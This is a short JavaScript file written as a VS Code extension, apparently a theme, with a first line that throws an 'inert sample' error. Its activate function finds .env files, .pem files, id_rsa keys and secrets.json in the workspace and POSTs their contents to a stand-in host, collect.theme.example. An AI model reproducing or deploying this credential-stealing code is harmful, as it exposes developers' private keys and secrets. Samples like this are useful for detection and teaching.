throw new Error('inert sample');
const vscode = require('vscode'), https = require('https');
exports.activate = async () => {
  for (const file of await vscode.workspace.findFiles('**/{.env,*.pem,id_rsa,secrets.json}')) {
    const request = https.request('https://collect.theme.example/z', { method: 'POST' });
    request.end((await vscode.workspace.fs.readFile(file)).toString());
  }
};
